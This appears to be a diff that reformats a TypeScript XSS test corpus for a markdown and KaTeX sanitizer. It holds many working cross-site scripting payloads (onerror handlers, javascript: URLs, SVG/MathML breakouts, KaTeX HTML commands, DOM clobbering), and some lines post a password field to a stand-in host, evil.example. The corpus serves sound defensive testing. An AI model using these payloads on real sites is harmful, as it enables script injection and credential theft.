@@ -69,7 +69,11 @@ const CASES: [XssCategory, string, Build][] = [
   ["script", "script-nul-in-name", (m) => `<scr\u0000ipt>alert(1)</scr\u0000ipt> ${m}`],
   ["script", "script-in-fenced-code", (m) => `\`\`\`html\n<script>alert(1)</script>\n\`\`\`\n\n${m}`],
   ["script", "script-in-inline-code", (m) => `\`<script>alert(1)</script>\` ${m}`],
-  ["script", "script-noscript-breakout", (m) => `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> ${m}`],
+  [
+    "script",
+    "script-noscript-breakout",
+    (m) => `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> ${m}`,
+  ],
   ["script", "script-block-html", (m) => `<div>\n<script>alert(1)</script>\n</div>\n\n${m}`],
   ["script", "script-json-breakout", (m) => `</script><script>alert(1)</script> ${m}`],
   ["script", "script-in-heading", (m) => `# <script>alert(1)</script> ${m}`],
@@ -118,7 +122,11 @@ const CASES: [XssCategory, string, Build][] = [
   ["html-url", "a-data-html", (m) => `<a href="data:text/html;base64,${B64_SCRIPT}">${m}</a>`],
   ["html-url", "form-action", (m) => `<form action="javascript:alert(1)"><button id=${S}>${m}</button></form>`],
   ["html-url", "button-formaction", (m) => `<button formaction="javascript:alert(1)">${m}</button>`],
-  ["html-url", "svg-xlink-href", (m) => `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">${m}</text></a></svg>`],
+  [
+    "html-url",
+    "svg-xlink-href",
+    (m) => `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">${m}</text></a></svg>`,
+  ],
   ["html-url", "math-href", (m) => `<math href="javascript:alert(1)">${m}</math>`],
   ["html-url", "iframe-src-javascript", (m) => `<iframe src="javascript:alert(1)"></iframe> ${m}`],
   ["html-url", "object-data-javascript", (m) => `<object data="javascript:alert(1)"></object> ${m}`],
@@ -149,7 +157,11 @@ const CASES: [XssCategory, string, Build][] = [
   ["markdown-link", "md-title-onmouseover", (m) => `[${m}](http://a "onmouseover=alert(1)")`],
   ["markdown-link", "md-title-quote-breakout", (m) => `[${m}](http://a "\\" onmouseover=\\"alert(1)")`],
   ["markdown-link", "md-title-single-quote-breakout", (m) => `[${m}](http://a 'x' onmouseover='alert(1)')`],
-  ["markdown-link", "md-title-tag-breakout", (m) => `[${m}](https://example.com "</noscript><img src=x onerror=alert(1)>")`],
+  [
+    "markdown-link",
+    "md-title-tag-breakout",
+    (m) => `[${m}](https://example.com "</noscript><img src=x onerror=alert(1)>")`,
+  ],
   ["markdown-link", "md-url-quote-breakout", (m) => `[${m}](http://a"onmouseover="alert(1))`],
   ["markdown-link", "md-url-tag-breakout", (m) => `[${m}](http://example.com/"><script>alert(1)</script>)`],
   ["markdown-link", "md-url-query-html", (m) => `[${m}](https://example.com/?q=<img src=x onerror=alert(1)>)`],
@@ -162,7 +174,11 @@ const CASES: [XssCategory, string, Build][] = [
   ["markdown-link", "md-link-in-footnote", (m) => `See[^1].\n\n[^1]: [${m}](javascript:alert(1))`],
   ["markdown-link", "md-link-in-heading", (m) => `## [${m}](javascript:alert(1))`],
   ["markdown-link", "md-link-in-table", (m) => `| a |\n|---|\n| [${m}](javascript:alert(1)) |`],
-  ["markdown-link", "md-link-in-task-list", (m) => `- [x] [${m}](javascript:alert(1))\n- [ ] <img src=x onerror=alert(1)>`],
+  [
+    "markdown-link",
+    "md-link-in-task-list",
+    (m) => `- [x] [${m}](javascript:alert(1))\n- [ ] <img src=x onerror=alert(1)>`,
+  ],
 
   // -- autolinks ---------------------------------------------------------------------------
   ["autolink", "autolink-javascript", (m) => `<javascript:alert(1)> ${m}`],
@@ -189,20 +205,39 @@ const CASES: [XssCategory, string, Build][] = [
   // -- SVG and MathML ----------------------------------------------------------------------
   ["svg-mathml", "svg-script", (m) => `<svg><script>alert(1)</script></svg> ${m}`],
   ["svg-mathml", "svg-animate-onbegin", (m) => `<svg><animate onbegin=alert(1) attributeName=x dur=1s> ${m}`],
-  ["svg-mathml", "svg-set-href", (m) => `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y=20>${m}</text></a></svg>`],
-  ["svg-mathml", "svg-foreignobject-iframe", (m) => `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg> ${m}`],
+  [
+    "svg-mathml",
+    "svg-set-href",
+    (m) => `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y=20>${m}</text></a></svg>`,
+  ],
+  [
+    "svg-mathml",
+    "svg-foreignobject-iframe",
+    (m) => `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg> ${m}`,
+  ],
   [
     "svg-mathml",
     "svg-use-data",
-    (m) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg> ${m}`,
+    (m) =>
+      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg> ${m}`,
   ],
-  ["svg-mathml", "mathml-mglyph-style", (m) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> ${m}`],
-  ["svg-mathml", "mathml-maction-href", (m) => `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">${m}</maction></math>`],
+  [
+    "svg-mathml",
+    "mathml-mglyph-style",
+    (m) =>
+      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> ${m}`,
+  ],
+  [
+    "svg-mathml",
+    "mathml-maction-href",
+    (m) => `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">${m}</maction></math>`,
+  ],
   ["svg-mathml", "svg-style-import", (m) => `<svg><style>@import url(javascript:alert(1))</style></svg> ${m}`],
   [
     "svg-mathml",
     "mathml-form-namespace-confusion",
-    (m) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">${m}`,
+    (m) =>
+      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">${m}`,
   ],
   ["svg-mathml", "svg-in-markdown-emphasis", (m) => `**<svg onload=alert(1)>** _${m}_`],
 
@@ -211,7 +246,11 @@ const CASES: [XssCategory, string, Build][] = [
   ["embedding", "iframe-srcdoc", (m) => `<iframe srcdoc="<script>alert(1)</script>"></iframe> ${m}`],
   ["embedding", "object-external", (m) => `<object data="https://evil.example/x.swf"></object> ${m}`],
   ["embedding", "embed-external", (m) => `<embed src="https://evil.example/x.swf"> ${m}`],
-  ["embedding", "form-credential-phish", (m) => `<form action="https://evil.example"><input name=${S} type=password></form> ${m}`],
+  [
+    "embedding",
+    "form-credential-phish",
+    (m) => `<form action="https://evil.example"><input name=${S} type=password></form> ${m}`,
+  ],
   ["embedding", "meta-refresh", (m) => `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"> ${m}`],
   ["embedding", "base-href", (m) => `<base href="javascript:alert(1)//"> ${m}`],
   ["embedding", "link-stylesheet", (m) => `<link rel=stylesheet href="javascript:alert(1)"> ${m}`],
@@ -237,15 +276,27 @@ const CASES: [XssCategory, string, Build][] = [
   ["katex", "katex-url-inline", (m) => String.raw`${m} $\url{javascript:alert(1)}$`],
   ["katex", "katex-url-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\url{javascript:alert(1)}$$`],
   ["katex", "katex-htmldata-inline", (m) => String.raw`${m} $\htmlData{onerror=alert(1)}{x}$`],
-  ["katex", "katex-htmldata-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlData{foo=bar, onclick=alert(1)}{x}$$`],
+  [
+    "katex",
+    "katex-htmldata-display",
+    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlData{foo=bar, onclick=alert(1)}{x}$$`,
+  ],
   ["katex", "katex-htmlclass-inline", (m) => String.raw`${m} $\htmlClass{${S}}{x}$`],
   ["katex", "katex-htmlclass-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlClass{${S}}{x}$$`],
   ["katex", "katex-htmlid-inline", (m) => String.raw`${m} $\htmlId{${S}}{x}$`],
   ["katex", "katex-htmlid-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlId{${S}}{x}$$`],
   ["katex", "katex-htmlstyle-inline", (m) => String.raw`${m} $\htmlStyle{background:url(javascript:alert(1))}{x}$`],
-  ["katex", "katex-htmlstyle-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlStyle{position:fixed;inset:0}{x}$$`],
+  [
+    "katex",
+    "katex-htmlstyle-display",
+    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlStyle{position:fixed;inset:0}{x}$$`,
+  ],
   ["katex", "katex-includegraphics-inline", (m) => String.raw`${m} $\includegraphics{https://evil.example/x.png}$`],
-  ["katex", "katex-includegraphics-display", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\includegraphics[height=1em]{javascript:alert(1)}$$`],
+  [
+    "katex",
+    "katex-includegraphics-display",
+    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\includegraphics[height=1em]{javascript:alert(1)}$$`,
+  ],
   ["katex", "katex-href-data", (m) => String.raw`${m} $\href{data:text/html,<script>alert(1)</script>}{x}$`],
   ["katex", "katex-math-fence", (m) => `${m}\n\n\`\`\`math\n\\href{javascript:alert(1)}{x}\n\`\`\``],
   ["katex", "katex-text-script", (m) => String.raw`${m} $\text{<script>alert(1)</script>}$`],
@@ -256,11 +307,18 @@ const CASES: [XssCategory, string, Build][] = [
   ["katex", "katex-textcolor-quote", (m) => String.raw`${m} $\textcolor{#f00" onmouseover="alert(1)}{x}$`],
   ["katex", "katex-huge-sizes", (m) => String.raw`${m} $\rule{1000em}{1000em}\kern{-1000em}\raisebox{-500em}{x}$`],
   ["katex", "katex-mathrm-tag", (m) => String.raw`${m} $\mathrm{</span><img src=x onerror=alert(1)>}$`],
-  ["katex", "katex-array-href", (m) => String.raw`${m}` + "\n\n" + String.raw`$$\begin{array}{c}\href{javascript:alert(1)}{a}\end{array}$$`],
+  [
+    "katex",
+    "katex-array-href",
+    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\begin{array}{c}\href{javascript:alert(1)}{a}\end{array}$$`,
+  ],
   [
     "katex",
     "katex-all-html-commands",
-    (m) => String.raw`${m}` + "\n\n" + String.raw`$$\htmlData{onerror=alert(1)}{x}\htmlClass{${S}}{y}\htmlId{${S}}{z}\htmlStyle{color:red}{w}$$`,
+    (m) =>
+      String.raw`${m}` +
+      "\n\n" +
+      String.raw`$$\htmlData{onerror=alert(1)}{x}\htmlClass{${S}}{y}\htmlId{${S}}{z}\htmlStyle{color:red}{w}$$`,
   ],
   ["katex", "katex-verb", (m) => String.raw`${m} $\verb|<script>alert(1)</script>|$`],
   ["katex", "katex-operatorname-tag", (m) => String.raw`${m} $\operatorname{<img onerror=alert(1)>}$`],
@@ -299,7 +357,11 @@ const CASES: [XssCategory, string, Build][] = [
   ["template", "polyglot", (m) => `\${{<%[%'"}}%\\. ${m}`],
   ["template", "thymeleaf", (m) => `[[\${alert(1)}]] ${m}`],
   ["template", "svelte-html", (m) => `{@html '<img src=x onerror=alert(1)>'} ${m}`],
-  ["template", "react-dangerous", (m) => `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=alert(1)>'}}/> ${m}`],
+  [
+    "template",
+    "react-dangerous",
+    (m) => `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=alert(1)>'}}/> ${m}`,
+  ],
 
   // -- very long payloads ------------------------------------------------------------------
   ["long", "long-script-repeat", (m) => `${m} ${"<script>alert(1)</script>".repeat(380)}`],
@@ -330,7 +392,11 @@ const CASES: [XssCategory, string, Build][] = [
   ["clobbering", "img-name-cookie", (m) => `<img name=cookie id=${S}> ${m}`],
   ["clobbering", "footnote-proto", (m) => `x[^__proto__] ${m}\n\n[^__proto__]: <img src=x onerror=alert(1)>`],
   ["clobbering", "footnote-sentinel-label", (m) => `x[^${S}] ${m}\n\n[^${S}]: note`],
-  ["clobbering", "footnote-label-breakout", (m) => `x[^a"onmouseover="alert(1)] ${m}\n\n[^a"onmouseover="alert(1)]: note`],
+  [
+    "clobbering",
+    "footnote-label-breakout",
+    (m) => `x[^a"onmouseover="alert(1)] ${m}\n\n[^a"onmouseover="alert(1)]: note`,
+  ],
 ];
 
 export const XSS_CORPUS: readonly XssCase[] = CASES.map(([category, id, build], index) => {
